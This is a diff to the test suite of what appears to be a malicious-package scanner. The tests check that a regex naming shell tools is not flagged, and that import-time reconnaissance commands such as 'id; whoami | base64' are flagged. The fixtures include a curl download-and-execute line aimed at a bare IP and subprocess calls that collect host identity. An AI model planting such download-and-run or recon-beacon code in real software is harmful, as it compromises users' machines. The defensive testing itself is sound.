@@ -98,3 +98,24 @@ def test_an_address_in_a_message_to_the_user_is_not_fetched(tmp_path: Path) -> N
         "'curl -s https://203.0.113.7/get it now -o run.exe && run.exe', shell=True))",
     )
     assert "thr-drops-executable" in exam(tmp_path, "shown", {"__init__.py": shown})
+
+
+# mlflow 3.18.0's web bundle carries Prism's shell grammar: command names as alternatives
+_GRAMMAR = """\
+import re, urllib.request
+
+SHELL_BUILTINS = re.compile(r"(^|[\\s;|&])(?:wget|which|who|whoami|write|xargs)(?=$|[\\s;])")
+
+def fetch(url):
+    return urllib.request.urlopen(url).read()
+"""
+
+
+def test_command_names_in_an_alternation_are_not_a_command(tmp_path: Path) -> None:
+    assert exam(tmp_path, "shellgrammar", {"lexer.py": _GRAMMAR}) == {}
+    # whoami run at import, after a separator or piped on, is the beacon's collection
+    for command in ("hostname && whoami", "id; whoami | base64", "x=$(whoami)"):
+        beacon = _GRAMMAR + f"import subprocess\nWHO = subprocess.getoutput({command!r})\n"
+        assert exam(tmp_path, "beacon", {"lexer.py": beacon}).get("thr-system-recon") == (
+            "beacon/lexer.py"
+        ), command
